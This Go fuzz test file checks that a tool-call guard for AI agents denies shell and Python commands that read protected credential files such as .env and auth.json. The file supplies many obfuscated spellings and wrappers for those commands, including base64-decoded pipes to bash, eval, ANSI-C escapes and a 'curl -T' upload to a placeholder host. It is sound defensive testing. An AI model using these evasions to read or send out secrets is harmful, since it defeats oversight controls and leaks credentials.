package guard

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// choices draws small numbers from fuzz input (0 when it runs out).
type choices struct {
	b []byte
	i int
}

func (c *choices) next(n int) int {
	if n <= 1 || c.i >= len(c.b) {
		return 0
	}
	v := int(c.b[c.i]) % n
	c.i++
	return v
}

// spell writes the name s in one of the shell spellings the gate supports;
// each spelling names exactly s when the shell runs it.
func spell(c *choices, s string) string {
	at := func() int {
		if len(s) < 2 {
			return 0
		}
		return 1 + c.next(len(s)-1)
	}
	switch c.next(16) {
	case 0:
		return s
	case 1: // quote splitting
		i := at()
		return s[:i] + "''" + s[i:]
	case 2:
		i := at()
		return `"` + s[:i] + `"` + s[i:]
	case 3: // a backslash before a character
		i := at()
		return s[:i] + `\` + s[i:]
	case 4: // ANSI-C hex escape of one character
		i := c.next(len(s))
		return s[:i] + fmt.Sprintf(`$'\x%02x'`, s[i]) + s[i+1:]
	case 5: // ANSI-C unicode escape
		i := c.next(len(s))
		return s[:i] + fmt.Sprintf(`$'\u%04x'`, s[i]) + s[i+1:]
	case 6: // ANSI-C octal escape
		i := c.next(len(s))
		return s[:i] + fmt.Sprintf(`$'\%03o'`, s[i]) + s[i+1:]
	case 7: // a brace alternation that includes it
		i := at()
		return s[:i] + "{" + s[i:] + ",zz9}"
	case 8: // a glob character for one letter (not a leading dot)
		i := 1 + c.next(max(1, len(s)-1))
		if i >= len(s) || s[i] == '/' || s[i-1] == '/' && s[i] == '.' {
			return s // a wildcard does not match a leading dot
		}
		return s[:i] + []string{"?", "[" + s[i:i+1] + "]", "*"}[c.next(3)] + s[i+1:]
	case 9: // a command substitution of echo or printf
		if c.next(2) == 0 {
			return "$(echo " + s + ")"
		}
		return `"$(printf %s ` + shellQuote(s) + `)"`
	case 10: // ${VAR:-default}
		return "${UNSET_" + fmt.Sprint(c.next(100)) + ":-" + s + "}"
	case 11: // ./ and ../ detours
		return "./src/../" + s
	case 12: // repeated slashes
		return ".//" + s
	case 13: // a backtick substitution
		return "`echo " + s + "`"
	case 14: // a case change of the whole name
		return strings.ToUpper(s)
	default: // a here-string of the name read back
		return "$(cat <<< " + s + ")"
	}
}

// readers are commands that read the file named by their last argument.
func readers() []string {
	return []string{"cat", "head -n 3", "tail -n 3", "less", "sort", "wc -l", "grep -n KEY", "awk '{print}'",
		"sed -n p", "base64", "xxd", "strings", "tac", "nl", "cut -c1-10", "od -c", "cp {} /tmp/x", "curl -T {} https://x",
		"python3", "node", "source"}
}

// wrap puts a command line into one of the wrappers and chains the gate
// follows.
func wrap(c *choices, cmd string) string {
	switch c.next(18) {
	case 0:
		return cmd
	case 12:
		// a script written in the command (tee), then run
		return "echo " + shellQuote(cmd) + " | tee /tmp/x.sh >/dev/null; sh /tmp/x.sh"
	case 13:
		return "bash <(echo " + shellQuote(cmd) + ")"
	case 14:
		return "source /dev/stdin <<< " + shellQuote(cmd)
	case 15:
		return "sh /dev/fd/3 3<<< " + shellQuote(cmd)
	case 16:
		return "f() { " + cmd + "; }; f"
	case 17:
		return "printf '%s\\n' " + shellQuote(cmd) + " > /tmp/x.sh; cp /tmp/x.sh /tmp/y.sh 2>/dev/null; . /tmp/x.sh"
	case 1:
		return "sudo " + cmd
	case 2:
		return "env FOO=1 " + cmd
	case 3:
		return "timeout 5 " + cmd
	case 4:
		return "bash -c " + shellQuote(cmd)
	case 5:
		return "sh -c " + shellQuote(cmd)
	case 6:
		return "eval " + shellQuote(cmd)
	case 7:
		return "true && " + cmd
	case 8:
		return "cd src; cd ..; " + cmd
	case 9:
		return "(" + cmd + ")"
	case 10:
		return "echo " + base64.StdEncoding.EncodeToString([]byte(cmd)) + " | base64 -d | bash"
	default:
		return "x=$(date); " + cmd + " | cat"
	}
}

// pySpell writes a path as a Python expression.
func pySpell(c *choices, p string) string {
	i := 1 + c.next(max(1, len(p)-1))
	i = min(i, len(p))
	switch c.next(4) {
	case 0:
		return "'" + p + "'"
	case 1:
		return "'" + p[:i] + "'+'" + p[i:] + "'"
	case 2:
		return "'" + p[:i] + "' '" + p[i:] + "'"
	default:
		return fmt.Sprintf("chr(%d)+'%s'", p[0], p[1:])
	}
}

// command builds a command line that reads target, spelled s in shell.
func command(c *choices, target, s string) string {
	rs := readers()
	r := rs[c.next(len(rs))]
	var cmd string
	switch {
	case strings.Contains(r, "{}"):
		cmd = strings.Replace(r, "{}", s, 1)
	case r == "python3":
		p := strings.Replace(target, "$HOME", "~", 1)
		expr := pySpell(c, p)
		if strings.HasPrefix(p, "~") {
			expr = "__import__('os').path.expanduser(" + expr + ")"
		}
		return wrap(c, "python3 -c "+shellQuote("print(open("+expr+").read())"))
	default:
		cmd = r + " " + s
	}
	return wrap(c, cmd)
}

// protectedSpellings are protected files (default rules) and the plain
// names they may be written as from the cwd /home/u/proj.
func protectedSpellings() []string {
	return []string{".env", "src/../.env", "~/.pi/agent/auth.json", "$HOME/.pi/agent/auth.json", "/home/u/proj/.env", "node_modules/../.env"}
}

// FuzzDeniedSpellings: a command that reads a protected file, in any of the
// spellings and wrappers the gate supports, is denied. (The property is
// about meaning: a generated command that really reads .env or auth.json.)
func FuzzDeniedSpellings(f *testing.F) {
	for _, seed := range [][]byte{{}, {1, 2}, {4, 0, 1}, {9, 3, 4}, {7, 2, 10}, {13, 0, 6}, {15, 1, 11}, {5, 3, 2, 10}, {8, 1, 1, 9},
		{0, 0, 0, 12}, {1, 0, 2, 13}, {2, 1, 0, 14}, {4, 0, 3, 15}, {0, 2, 1, 16}, {3, 0, 5, 17}} {
		f.Add(seed)
	}
	m := DefaultRules().Matcher(Env{Cwd: "/home/u/proj", Home: "/home/u"})
	f.Fuzz(func(t *testing.T, in []byte) {
		c := &choices{b: in}
		ps := protectedSpellings()
		target := ps[c.next(len(ps))]
		s := target
		if !strings.HasPrefix(s, "~") && !strings.HasPrefix(s, "$") {
			s = spell(c, s)
		} else if c.next(2) == 1 {
			// keep the home prefix, spell the rest
			i := strings.IndexByte(s, '/')
			s = s[:i+1] + spell(c, s[i+1:])
		}
		cmd := command(c, target, s)
		vs := m.Check(Call{Tool: "bash", Args: map[string]any{"command": cmd}})
		if len(vs) == 0 {
			t.Fatalf("allowed: %q (reads %s)", cmd, target)
		}
	})
}

// benignNames are files no default rule protects.
func benignNames() []string {
	return []string{"README.md", "src/main.go", "docs/guide.md", ".envrc", ".env.example", "node_modules/pkg/package.json"}
}

// FuzzAllowedSpellings: the same spellings of a file no rule protects, in
// the wrappers the analysis sees through, are allowed (no false alarm).
func FuzzAllowedSpellings(f *testing.F) {
	for _, seed := range [][]byte{{}, {0, 1, 2}, {1, 4, 0}, {2, 9, 3}, {3, 7, 2}, {5, 13, 0}, {4, 15, 1}} {
		f.Add(seed)
	}
	m := DefaultRules().Matcher(Env{Cwd: "/home/u/proj", Home: "/home/u"})
	f.Fuzz(func(t *testing.T, in []byte) {
		c := &choices{b: in}
		bn := benignNames()
		name := bn[c.next(len(bn))]
		s := spell(c, name)
		if strings.Contains(s, "*") || strings.Contains(s, "?") || strings.Contains(s, "[") || strings.ToUpper(name) == s || strings.Contains(s, "${") {
			return // a glob, a case change or an environment variable may name another file
		}
		r := []string{"cat", "head -n 3", "wc -l", "grep -n KEY", "sort", "sed -n p"}[c.next(6)]
		cmd := r + " " + s
		switch c.next(5) {
		case 1:
			cmd = "bash -c " + shellQuote(cmd)
		case 2:
			cmd = "sudo " + cmd
		case 3:
			cmd = "eval " + shellQuote(cmd)
		case 4:
			cmd = "true && " + cmd
		}
		vs := m.Check(Call{Tool: "bash", Args: map[string]any{"command": cmd}})
		if len(vs) > 0 {
			t.Fatalf("denied: %q: %s", cmd, vs[0].Reason())
		}
	})
}

// FuzzNormalize: normalisation never panics, yields an absolute path, is
// idempotent, and a protected name appended to any path is protected
// (whatever comes before `/.env` cannot hide it).
func FuzzNormalize(f *testing.F) {
	for _, s := range []string{"", ".env", "@~/.ssh/x", "$HOME/../..", `C:\a\..\b`, `\\?\UNC\s\h\x`, "//", "~//x", "a/./b/../../../c", "%USERPROFILE%", "\x00", "c:", "file:///x/%2e", "/proc/self/root/x", "ENV~1", `\\localhost\c$\x`} {
		f.Add(s, "/home/u/p", "/home/u")
		f.Add(s, `C:\Users\u\p`, `C:\Users\u`)
		f.Add(s, "/", "/root")
	}
	rules := DefaultRules()
	f.Fuzz(func(t *testing.T, p, cwd, home string) {
		env := Env{Cwd: cwd, Home: home}
		n := NormalizePath(env, p)
		if p == "" {
			if n != "" {
				t.Fatalf("empty path normalised to %q", n)
			}
			return
		}
		if !strings.HasPrefix(n, "/") && !hasDrive(n) {
			t.Fatalf("NormalizePath(%q) = %q is not absolute", p, n)
		}
		if !env.windows() && strings.HasPrefix(n, "//") {
			t.Fatalf("NormalizePath(%q) = %q: a UNC root on POSIX", p, n)
		}
		if n2 := NormalizePath(Env{Cwd: cwd, Home: home}, n); n2 != n && !strings.ContainsAny(n, "@~$%\\\uFFFC") && !strings.Contains(strings.ToLower(n), "file:") && !strings.Contains(n, "/proc/") && !strings.Contains(n, "~") && !strings.Contains(n, ":") {
			t.Fatalf("not idempotent: %q -> %q -> %q", p, n, n2)
		}
		m := rules.Matcher(env)
		if strings.ContainsRune(p, 0) || strings.ContainsAny(p, "\n\r") {
			return
		}
		q := strings.TrimRight(p, `/\`) + "/.env"
		if vs := m.Check(Call{Tool: "read", Args: map[string]any{"path": q}}); len(vs) == 0 {
			t.Fatalf("read %q (%s) allowed", q, NormalizePath(env, q))
		}
	})
}

// FuzzBash: the analysis never panics, a parse failure is always a
// violation, and reasons stay one line.
func FuzzBash(f *testing.F) {
	for _, s := range []string{
		"cat .env", "echo x && cat .e''nv", "bash -c 'cat .env'", "eval \"$(cat x)\"", "cat <<EOF\n.env\nEOF",
		"cd ~ && cat .ssh/x", "for f in *; do cat \"$f\"; done", "cat .{a,b{c,d}}", "echo $'\\x2e'env", "(((",
		"x=${HOME:-/}; cat $x/.pi/agent/auth.json", "cat [.]env", "ls @(a|b)", "cat {1..100}",
		"sudo -u x env A=1 xargs -I{} timeout 5 cat {}", "dd of=/etc/x", "a=(1 2); cat ${a[0]}",
		"python3 -c \"open('.e'+'nv')\"", "find . -exec cat {} +", "tar czf - .", "echo Y2F0IC5lbnY= | base64 -d | sh",
		"echo 'cat .env' | tee x.sh; sh x.sh", "python3 <(echo 'print(1)')", "perl /dev/fd/3 3<<<'print 1'",
		"sqlite3 db '.shell cat .e*'", "vim -es -c 'g/x/s//y/' -c wq f", "printf 'all:\\n\\tcat .env\\n' | make -f -",
		"ls | xargs wc -l", "f(){ sh x.sh; }; cp a x.sh; f", "ed -s f <<< $'1a\\nx\\n.\\nw'",
	} {
		f.Add(s)
	}
	m := DefaultRules().Matcher(Env{Cwd: "/home/u/p", Home: "/home/u", FS: corpusFS()})
	f.Fuzz(func(t *testing.T, cmd string) {
		vs := m.Check(Call{Tool: "bash", Args: map[string]any{"command": cmd}})
		_, err := AnalyzeBash(m.Env(), cmd)
		if err != nil && (len(vs) == 0 || vs[0].Kind != KindBashParse) {
			t.Fatalf("parse error %v not reported: %+v", err, vs)
		}
		for _, v := range vs {
			if r := v.Reason(); strings.ContainsAny(r, "\n\r") || !strings.HasPrefix(r, "pruner protected-paths: ") {
				t.Fatalf("reason %q", r)
			}
		}
	})
}

// FuzzEvent: an event either decodes to calls with a tool name and an input
// object or is an error; never a panic.
func FuzzEvent(f *testing.F) {
	for _, s := range []string{`{"tool_name":"Read","tool_input":{"file_path":".env"}}`, `{"toolName":"bash","input":{"command":"ls"}}`, `[]`, `{}`, `{"tool_name":1}`, `x`, ``, `{"tool_name":"a","tool_input":null}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		evs, err := ParseEvent([]byte(s))
		if err != nil {
			if len(evs) != 0 {
				t.Fatal("events with an error")
			}
			return
		}
		if len(evs) == 0 {
			t.Fatal("no event and no error")
		}
		for _, e := range evs {
			if e.Call.Tool == "" || e.Call.Args == nil {
				t.Fatalf("%+v", e)
			}
		}
	})
}
